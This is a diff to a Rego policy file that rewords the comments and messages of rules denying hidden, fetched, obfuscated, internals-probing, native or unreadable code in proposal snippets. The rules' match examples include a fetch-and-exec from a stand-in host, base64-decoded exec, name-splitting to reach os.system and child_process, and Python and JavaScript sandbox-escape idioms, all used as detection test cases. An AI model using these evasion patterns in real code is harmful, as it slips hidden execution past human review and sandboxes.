@@ -2,38 +2,38 @@ package fumehood.snippet
 
 import data.fumehood.lib
 
-# What code in the text of a proposal looks like. This is advice to people and
-# reviewers, never the boundary: a file that was written before, a module of the
-# workspace or one name more is not seen through, and the sandbox holds all of them.
+# Rules about code in the text of a proposal. They advise people and reviewers and are
+# not a security boundary: code in a file that was written before, in a module of the
+# workspace or behind another name is not analyzed. The sandbox contains all of it.
 #
-# Refused is only what a reviewer has no use for, and what says nothing of what it
-# does. What a snippet imports or can do refuses nothing here; policies/examples/snippets
-# shows a policy that does.
+# These rules deny only code that a reviewer does not need, and code that hides what it
+# does. They deny no import and no capability; policies/examples/snippets has a policy
+# that does.
 
 # METADATA
-# title: What a snippet runs is written in it
+# title: Snippets must not run decoded or fetched code
 # custom:
 #   rule: snippet.hidden-code
 #   match: ["python3 -c 'import base64; exec(base64.b64decode(\"cHJpbnQoMSk=\"))'", "python3 -c 'import urllib.request as u; exec(u.urlopen(\"http://x.example/a\").read())'", "node -e 'eval(atob(\"eA==\"))'", "python3 - <<'EOF'\nimport os\nexec(os.environ[\"X\"])\nEOF"]
 #   not_match: ["python3 -c 'import base64; print(base64.b64decode(\"eA==\"))'", "python3 -c 'print(eval(\"1 + 1\"))'", "node -e 'console.log(atob(\"eA==\"))'", "python3 x.py"]
-deny contains lib.denial("snippet.hidden-code", sprintf("line %d of the snippet %s", [f.line, f.message]), "write the code itself, so that it can be read") if {
+deny contains lib.denial("snippet.hidden-code", sprintf("line %d of the snippet %s", [f.line, f.message]), "write the code literally, so that it can be read") if {
 	some f in input.snippet.findings
 	f.code in {"decoded-code", "fetched-code"}
 }
 
 # METADATA
-# title: Names in a snippet are written plainly
+# title: Snippets must not hide names
 # custom:
 #   rule: snippet.hidden-name
 #   match: ["python3 -c 'getattr(__import__(\"o\"+\"s\"), \"sys\"+\"tem\")(\"id\")'", "node -e 'require(\"child_\" + \"process\").execSync(\"id\")'", "node -e 'globalThis[\"ev\"+\"al\"](\"1\")'", "python3 -c 'import os; os.ｓystem(\"id\")'"]
 #   not_match: ["python3 -c 'import mypkg; print(getattr(mypkg, \"a\"))'", "python3 -c 'größe = 1; print(größe)'", "node -e 'console.log(\"a\" + \"b\", process.env[\"HOME\"])'"]
-deny contains lib.denial("snippet.hidden-name", sprintf("line %d of the snippet: %s", [f.line, f.message]), "write names as they are, in plain letters") if {
+deny contains lib.denial("snippet.hidden-name", sprintf("line %d of the snippet: %s", [f.line, f.message]), "write names literally, in plain letters") if {
 	some f in input.snippet.findings
 	f.code in {"built-name", "odd-name", "hidden-character"}
 }
 
 # METADATA
-# title: A snippet stays out of the interpreter's internals
+# title: Snippets must not use the interpreter's internals
 # custom:
 #   rule: snippet.internals
 #   match: ["python3 -c '().__class__.__base__.__subclasses__()'", "python3 -c 'print.__self__.__dict__; (lambda: 0).__globals__'", "node -e 'process.binding(\"fs\")'", "node -e '[].constructor.constructor(\"return process\")()'"]
@@ -44,7 +44,7 @@ deny contains lib.denial("snippet.internals", sprintf("line %d of the snippet %s
 }
 
 # METADATA
-# title: A snippet calls no machine code
+# title: Snippets must not call machine code
 # custom:
 #   rule: snippet.native
 #   match: ["python3 -c 'import ctypes; ctypes.CDLL(None).system(b\"id\")'", "node -e 'process.dlopen(module, \"/tmp/x.node\")'"]
@@ -55,13 +55,13 @@ deny contains lib.denial("snippet.native", sprintf("line %d of the snippet %s", 
 }
 
 # METADATA
-# title: A snippet can be read to its end
-# description: What is known only when it runs is not refused here; the text of such a command is judged as words.
+# title: Snippets must be readable as a whole
+# description: Code that is known only at run time is not denied here; the rules about its command check it as arguments.
 # custom:
 #   rule: snippet.unread
 #   match: ["python3 -c 'import os; )('", "node -e 'const x = {{{'", "python3 -c '# coding: rot13\ncevag(1)'"]
 #   not_match: ["python3 -c 'print(1)'", "python3 -c \"print('$HOME')\"", "python3 -c 'match 1:\n case 1: print(1)'"]
-deny contains lib.denial("snippet.unread", sprintf("line %d of the snippet: %s", [f.line, f.message]), "mend or shorten it, or run a file of the workspace") if {
+deny contains lib.denial("snippet.unread", sprintf("line %d of the snippet: %s", [f.line, f.message]), "fix or shorten it, or run a file in the workspace") if {
 	some f in input.snippet.findings
 	f.code in {"too-large", "too-long", "unreadable", "not-understood", "encoding"}
 }
